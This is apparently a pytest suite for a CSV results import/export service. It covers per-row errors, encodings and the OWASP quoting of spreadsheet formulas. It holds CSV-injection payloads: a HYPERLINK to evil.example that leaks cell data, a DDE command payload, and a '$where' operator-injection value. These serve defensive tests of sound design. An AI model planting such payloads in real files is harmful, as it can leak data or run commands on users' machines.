"""Results CSV: export, import preview with per-row errors, round trip, explicit partial import."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pydantic
import pytest

from models.experiment import Criterion, ExperimentCreate, ResultFields
from services.core import i18n
from services.core.errors import InvalidInput
from services.experiments import experiments
from services.transfer import cells, results_csv
from tests.conftest import check_matrix, unchanged_store


def make_experiment(world, city_id=None, title="Mobile payments, at the market"):
    created = experiments.create_experiment(
        world["admin"],
        city_id or world.city,
        ExperimentCreate(
            title=title,
            metric="vendors paying by mobile",
            unit="%",
            criterion=Criterion(kind="numeric", comparison=">=", target=40),
            start=dt.date(2026, 3, 1),
            end=dt.date(2026, 3, 31),
            status="running",
        ),
    )
    lag = world["admin"]  # records in any city
    for day, value, note in ((3, 12.5, "first, windy day"), (10, 30, ""), (17, 41.25, 'a "quote"')):
        experiments.record_result(
            lag, created.id, ResultFields(date=dt.date(2026, 3, day), value=value, note=note)
        )
    experiments.record_result(
        lag, created.id, ResultFields(date=dt.date(2026, 3, 18), observation="vendors asked why")
    )
    return experiments.get_experiment(world["admin"], created.id)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def write(rows: list[dict[str, str]]) -> str:
    return results_csv.to_csv(rows)


def test_export_has_the_documented_columns(small_world):
    experiment = make_experiment(small_world)
    text = results_csv.export_city(small_world["lag_member"], small_world.city)
    assert text.splitlines()[0] == ",".join(results_csv.COLUMNS)
    rows = rows_of(text)
    assert [r["value"] for r in rows] == ["12.5", "30", "41.25", ""]
    assert rows[0]["experiment_title"] == experiment.title
    assert rows[2]["note"] == 'a "quote"'
    assert {r["entry_id"] for r in rows} == {e.id for e in experiment.results}


def test_round_trip_export_then_import_changes_nothing(small_world):
    experiment = make_experiment(small_world)
    text = results_csv.export_city(small_world["lag_member"], small_world.city)
    preview = results_csv.preview(small_world["lag_member"], text.encode("utf-8"))
    assert preview.valid
    assert preview.counts() == {"new": 0, "changed": 0, "unchanged": 4, "invalid": 0}
    assert results_csv.apply(small_world["lag_member"], preview) == {"new": 0, "changed": 0}
    after = experiments.get_experiment(small_world["admin"], experiment.id)
    assert after.revision == experiment.revision
    assert all(not e.history for e in after.results)


def test_import_adds_new_rows_and_corrects_changed_ones(small_world):
    experiment = make_experiment(small_world)
    rows = rows_of(results_csv.export_city(small_world["lag_member"], small_world.city))
    rows[1]["value"] = "31"
    rows.append({**rows[0], "entry_id": "", "date": "2026-03-24", "value": "44", "note": "new"})
    preview = results_csv.preview(small_world["lag_member"], write(rows))
    assert [r.state for r in preview.rows] == [
        "unchanged",
        "changed",
        "unchanged",
        "unchanged",
        "new",
    ]
    assert results_csv.apply(small_world["lag_member"], preview) == {"new": 1, "changed": 1}
    after = experiments.get_experiment(small_world["admin"], experiment.id)
    assert [e.value for e in after.results] == [12.5, 31, 41.25, None, 44]
    assert after.results[1].history[0].value == 30  # the correction kept the previous value
    assert after.results[3].observation == "vendors asked why"


def test_a_file_with_one_bad_row_is_refused_with_that_rows_message(small_world):
    experiment = make_experiment(small_world)
    rows = rows_of(results_csv.export_city(small_world["lag_member"], small_world.city))
    rows.append({**rows[0], "entry_id": "", "value": "44"})
    rows.append({**rows[0], "entry_id": "", "value": "lots"})  # row 7 of the file
    preview = results_csv.preview(small_world["lag_member"], write(rows))
    assert not preview.valid
    assert preview.count("invalid") == 1
    assert results_csv.error_lines(preview) == ["Row 7, value: must be a number"]
    assert results_csv.error_lines(preview, "fr") == ["Ligne 7, value : doit être un nombre"]
    with pytest.raises(InvalidInput) as caught:
        results_csv.apply(small_world["lag_member"], preview)
    assert caught.value.key == "csv.blocked"
    after = experiments.get_experiment(small_world["admin"], experiment.id)
    assert len(after.results) == 4  # nothing written


def test_importing_only_the_valid_rows_is_an_explicit_choice(small_world):
    experiment = make_experiment(small_world)
    rows = rows_of(results_csv.export_city(small_world["lag_member"], small_world.city))
    rows.append({**rows[0], "entry_id": "", "value": "44"})
    rows.append({**rows[0], "entry_id": "", "date": "31/02/2026", "value": "5"})
    preview = results_csv.preview(small_world["lag_member"], write(rows))
    assert results_csv.apply(small_world["lag_member"], preview, only_valid=True) == {
        "new": 1,
        "changed": 0,
    }
    after = experiments.get_experiment(small_world["admin"], experiment.id)
    assert [e.value for e in after.results][-1] == 44


@pytest.mark.parametrize(
    ("change", "field", "key"),
    [
        ({"experiment_id": "nope"}, "experiment_id", "csv.error.experiment"),
        ({"entry_id": "missing"}, "entry_id", "csv.error.entry"),
        ({"date": ""}, "date", "validation.date_from_datetime_parsing"),
        ({"entry_id": "", "value": ""}, "value", "csv.error.value_required"),
        ({"note": "$where"}, "note", "validation.operator"),
    ],
)
def test_each_row_error_names_its_field(small_world, change, field, key):
    make_experiment(small_world)
    rows = rows_of(results_csv.export_city(small_world["lag_member"], small_world.city))[:1]
    rows[0].update(change)
    preview = results_csv.preview(small_world["lag_member"], write(rows))
    (row,) = preview.rows
    assert row.row == 2
    assert (row.errors[0].field, row.errors[0].key) == (field, key)


def test_duplicate_entry_rows_and_wrong_header_are_refused(small_world):
    make_experiment(small_world)
    rows = rows_of(results_csv.export_city(small_world["lag_member"], small_world.city))
    preview = results_csv.preview(small_world["lag_member"], write([rows[0], rows[0]]))
    assert preview.rows[1].errors[0].key == "csv.error.duplicate"
    bad = results_csv.preview(small_world["lag_member"], "id,value\n1,2\n")
    assert bad.file_errors[0].key == "csv.error.header"
    assert results_csv.error_lines(bad)[0].startswith("Row 1, header:")
    assert results_csv.preview(small_world["lag_member"], b"\xff\xfe\x00").file_errors


def test_experiments_of_other_cities_are_refused_per_row(small_world):
    make_experiment(small_world, small_world.other_city)
    rows = rows_of(results_csv.export_city(small_world["admin"], small_world.other_city))
    preview = results_csv.preview(small_world["lag_member"], write(rows))
    assert {e.key for r in preview.rows for e in r.errors} == {"csv.error.experiment"}


def test_import_writes_follow_the_matrix(small_world):
    def attempt(user, city):
        experiment = make_experiment(small_world, city)
        row = {
            "experiment_id": experiment.id,
            "experiment_title": "",
            "date": "2026-03-20",
            "value": "50",
            "unit": "%",
            "note": "",
            "entry_id": "",
        }
        # The preview is built by someone allowed; the write checks the actor itself.
        preview = results_csv.preview(small_world["admin"], write([row]))
        results_csv.apply(user, preview)

    check_matrix(small_world, "experiment.result.record", attempt)


# --- spreadsheet formulas stay text, both ways ------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def test_formulas_are_quoted_in_the_export_and_come_back_unchanged(small_world):
    experiment = make_experiment(small_world)
    lag = small_world["lag_member"]
    for note in [*FORMULAS, "-3 vendors left", "\tTabbed", "'=already quoted"]:
        experiments.record_result(
            # A change in vendors (a share of vendors could not be negative: refused).
            lag,
            experiment.id,
            ResultFields(date=dt.date(2026, 3, 20), value=-3, unit="vendors", note=note),
        )
    text = results_csv.export_city(lag, small_world.city)
    rows = rows_of(text)
    notes = [r["note"] for r in rows]
    # No cell a spreadsheet would run: each starts with the quote OWASP prescribes.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value == "-3", value
    assert "'" + FORMULAS[0] in notes and "'@SUM(1+1)" in notes
    assert "''=already quoted" in notes
    assert [r["value"] for r in rows if r["note"] == "'@SUM(1+1)"] == ["-3"]  # still a number

    preview = results_csv.preview(lag, text.encode("utf-8"))
    assert preview.valid
    assert preview.counts()["unchanged"] == len(rows)  # every cell came back as it was
    by_note = {r.data.note: r.data for r in preview.rows}
    assert set(FORMULAS) <= set(by_note)
    assert "'=already quoted" in by_note and "\tTabbed" not in by_note  # stripped on input
    assert by_note["@SUM(1+1)"].value == -3


def test_the_cells_helper_follows_the_owasp_rule():

    for text in [*FORMULAS, "-x", "\t1", "\r2", "=1+1"]:
        assert cells.safe(text) == "'" + text
        assert cells.unquote(cells.safe(text)) == text
    for text in ["-3", "+1.5", "-2,5", "1e-3", "plain", "", "it's", "'quoted text"]:
        assert cells.safe(text) == text
        assert cells.unquote(text) == text
    assert cells.safe(-3) == "-3" and cells.safe(None) == ""
    text = cells.csv_text(["a", "b"], [{"a": "=1", "b": -3}])
    assert text == "a,b\n'=1,-3\n"


def test_no_new_results_for_an_experiment_that_is_done(small_world):
    experiment = make_experiment(small_world)
    lag = small_world["lag_member"]
    rows = rows_of(results_csv.export_city(lag, small_world.city))
    new_row = {**rows[0], "entry_id": "", "date": "2026-03-25", "value": "1", "note": "late"}
    fixed = {**rows[1], "value": "31"}
    experiments.set_status(small_world["admin"], experiment, "done")

    preview = results_csv.preview(lag, write([new_row, fixed]))
    assert [r.state for r in preview.rows] == ["invalid", "invalid"]
    lines = results_csv.error_lines(preview, "en")
    assert lines == [
        "Row 2, experiment_id: new results can only be added to a running experiment "
        "(as on Record a result)",
        "Row 3, entry_id: this experiment is done or stopped: its results are final and cannot "
        "be corrected",
    ]
    assert results_csv.error_lines(preview, "fr")[0].startswith("Ligne 2, experiment_id")
    with pytest.raises(InvalidInput):
        results_csv.apply(lag, preview)
    assert results_csv.apply(lag, preview, only_valid=True) == {"new": 0, "changed": 0}
    after = experiments.get_experiment(small_world["admin"], experiment.id)
    assert after.results == experiment.results


def test_an_experiment_closed_after_the_preview_gets_no_new_row(small_world):
    experiment = make_experiment(small_world)
    lag = small_world["lag_member"]
    rows = rows_of(results_csv.export_city(lag, small_world.city))
    new_row = {**rows[0], "entry_id": "", "date": "2026-03-25", "value": "99", "note": "late"}
    preview = results_csv.preview(lag, write([new_row]))
    assert preview.valid
    experiments.set_status(small_world["admin"], experiment, "done")
    assert results_csv.apply(lag, preview) == {"new": 0, "changed": 0}
    assert preview.rows[0].state == "invalid"
    assert "running experiment" in results_csv.error_lines(preview)[0]
    after = experiments.get_experiment(small_world["admin"], experiment.id)
    assert [e.value for e in after.results if e.value == 99] == []


@pytest.mark.parametrize("status", ["done", "stopped"])
def test_an_experiment_closed_after_the_preview_gets_no_correction(small_world, status):
    experiment = make_experiment(small_world)
    lag = small_world["lag_member"]
    rows = rows_of(results_csv.export_city(lag, small_world.city))
    fixed = {**rows[1], "value": "99"}
    preview = results_csv.preview(lag, write([fixed]))
    assert [r.state for r in preview.rows] == ["changed"]
    experiments.set_status(small_world["admin"], experiment, status)
    assert results_csv.apply(lag, preview) == {"new": 0, "changed": 0}
    assert preview.rows[0].state == "invalid"
    assert "done or stopped" in results_csv.error_lines(preview)[0]
    assert "terminée ou arrêtée" in results_csv.error_lines(preview, "fr")[0]
    after = experiments.get_experiment(small_world["admin"], experiment.id)
    assert after.results == experiment.results


# --- files saved by spreadsheets in other languages --------------------------------------------


def french_excel(rows: list[list[str]]) -> bytes:
    """What French Excel writes as "CSV (séparateur : point-virgule)": `;`, CRLF, cp1252."""
    lines = [";".join(results_csv.COLUMNS)] + [";".join(r) for r in rows]
    return "\r\n".join(lines).encode("cp1252") + b"\r\n"


def test_a_french_excel_results_file_imports(small_world):
    experiment = make_experiment(small_world)
    entry = experiment.results[1]  # 30 on 10 March
    data = french_excel(
        [
            [experiment.id, "Paiements mobiles", "24/03/2026", "47,5", "%", "marché d'été", ""],
            [experiment.id, "", "25/3/2026", "1 048,25", "visites", "", ""],
            [experiment.id, "", "10/03/2026", "30,75", "", "corrigé à la main", entry.id],
        ]
    )
    assert b"\xe9" in data  # "é" in Windows-1252: not UTF-8
    preview = results_csv.preview(small_world["lag_member"], data)
    assert results_csv.error_lines(preview) == []
    assert preview.counts() == {"new": 2, "changed": 1, "unchanged": 0, "invalid": 0}
    assert results_csv.apply(small_world["lag_member"], preview) == {"new": 2, "changed": 1}
    after = experiments.get_experiment(small_world["admin"], experiment.id)
    by_date = {(e.date, e.value, e.note) for e in after.results}
    assert (dt.date(2026, 3, 24), 47.5, "marché d'été") in by_date
    assert (dt.date(2026, 3, 25), 1048.25, "") in by_date
    assert after.entry(entry.id)[1].value == 30.75


def test_utf16_tab_separated_and_utf8_bom_files_import(small_world):
    experiment = make_experiment(small_world)
    header = "\t".join(results_csv.COLUMNS)
    row = "\t".join([experiment.id, "", "2026-03-20", "33,5", "", "Unicode « texte »", ""])
    utf16 = f"{header}\r\n{row}\r\n".encode("utf-16")  # with its BOM, as Excel saves it
    assert utf16[:2] in (b"\xff\xfe", b"\xfe\xff")
    preview = results_csv.preview(small_world["lag_member"], utf16)
    assert preview.valid and preview.counts()["new"] == 1
    assert preview.rows[0].data.value == 33.5
    bom = "\ufeff" + ",".join(results_csv.COLUMNS) + f"\n{experiment.id},,2026-03-21,34,,,\n"
    assert results_csv.preview(small_world["lag_member"], bom.encode("utf-8")).valid


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("12,5", "12.5"),
        ("1 234,5", "1234.5"),
        ("1\u00a0234,5", "1234.5"),
        ("1.234,5", "1234.5"),
        ("1,234.5", "1234.5"),
        ("-0,25", "-0.25"),
        ("abc", "abc"),
    ],
)
def test_numbers_in_any_usual_notation(written, read):
    assert results_csv.number_text(written) == read


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("15/03/2026", "2026-03-15"),
        ("5/3/2026", "2026-03-05"),
        ("15.03.2026", "2026-03-15"),
        ("15/03/2026 00:00", "2026-03-15"),
        ("2026-03-15", "2026-03-15"),
        ("2026-03-15 00:00:00", "2026-03-15"),
        ("31/02/2026", "31/02/2026"),  # no such day: left for the model to refuse
    ],
)
def test_dates_day_first_or_iso(written, read):
    assert results_csv.date_text(written) == read


def test_a_header_that_does_not_match_names_the_separator(small_world):
    text = "experiment;date;value\r\nx;15/03/2026;1\r\n"
    with unchanged_store():
        preview = results_csv.preview(small_world["lag_member"], text.encode("cp1252"))
    (line,) = results_csv.error_lines(preview)
    assert "«;»" in line and "experiment_id;experiment_title;date" in line
    (line_fr,) = results_csv.error_lines(preview, "fr")
    assert "«;»" in line_fr and line_fr.startswith("Ligne 1")


def test_a_cell_over_128_kb_gets_a_message_not_a_traceback(small_world):
    experiment = make_experiment(small_world)
    huge = "x" * (results_csv.FIELD_MAX + 10)
    text = ",".join(results_csv.COLUMNS) + f"\n{experiment.id},,2026-03-20,1,,{huge},\n"
    preview = results_csv.preview(small_world["lag_member"], text.encode("utf-8"))
    assert not preview.valid
    (line,) = results_csv.error_lines(preview)
    assert "128 KB" in line
    assert "128 Ko" in results_csv.error_lines(preview, "fr")[0]


KEY_LIKE = re.compile(r"\b[a-z_]+\.[a-z_]+(\.[a-z_]+)*\b")


def test_error_lines_never_show_a_message_key(small_world):
    experiment = make_experiment(small_world)
    bad_cells = [
        ("date", "tomorrow"),
        ("date", "31/02/2026"),
        ("date", "2026-03-15T10:30:00Z"),
        ("date", ""),
        ("value", "abc"),
        ("value", "inf"),
        ("value", "1e400"),
        ("note", "n" * 5000),
        ("unit", "u" * 5000),
        ("unit", "$where"),
        ("experiment_id", "nope"),
        ("entry_id", "nope"),
    ]
    rows = []
    for field_name, value in bad_cells:
        row = dict.fromkeys(results_csv.COLUMNS, "")
        row.update(experiment_id=experiment.id, date="2026-03-20", value="1")
        row[field_name] = value
        rows.append(row)
    text = write(rows)
    preview = results_csv.preview(small_world["lag_member"], text)
    assert preview.count("invalid") == len(bad_cells)
    for lang in ("en", "fr"):
        lines = results_csv.error_lines(preview, lang)
        assert len(lines) >= len(bad_cells)
        for line in lines:
            assert not KEY_LIKE.search(line.split(":", 1)[1]), line
    # Every key the rows carry has words in both languages.
    keys = {e.key for r in preview.rows for e in r.errors}
    assert "validation.date_from_datetime_parsing" in keys
    assert all(i18n.has(k) for k in keys), keys


def test_an_error_type_without_words_falls_back_to_a_sentence():
    class Fake(pydantic.BaseModel):
        value: pydantic.UUID4  # an error type ResultFields never raises

    with pytest.raises(pydantic.ValidationError) as raised:
        Fake(value="x")
    (error,) = results_csv._validation_errors(raised.value)
    assert i18n.has(error.key) and error.key == "validation.invalid"


# --- the template: every experiment one may record for ----------------------------------------


def test_the_template_lists_every_experiment_one_may_record_for(small_world):
    lead = small_world["city_lead"]
    without_entries = experiments.create_experiment(
        small_world["admin"],
        small_world.city,
        ExperimentCreate(
            title="Nobody measured this yet",
            metric="visits",
            unit="visits",
            criterion=Criterion(kind="numeric", comparison=">=", target=10),
            start=dt.date(2026, 3, 1),
            end=dt.date(2026, 3, 31),
            status="running",
        ),
    )
    make_experiment(small_world, small_world.other_city)  # not the lead's city
    exported = {
        r["experiment_id"] for r in rows_of(results_csv.export_city(lead, small_world.city))
    }
    assert without_entries.id not in exported  # why the template exists
    rows = rows_of(results_csv.template(lead))
    ids = {r["experiment_id"] for r in rows}
    expected = {e.id for e in experiments.recordable_experiments(lead)}
    assert without_entries.id in ids and ids == expected
    assert all(experiments.get_experiment(lead, i).city_id in lead.city_ids for i in ids)
    # Filled in and uploaded, it imports.
    for row in rows:
        row.update(date="2026-03-20", value="12")
    preview = results_csv.preview(lead, write(rows))
    assert preview.valid and preview.counts()["new"] == len(rows)
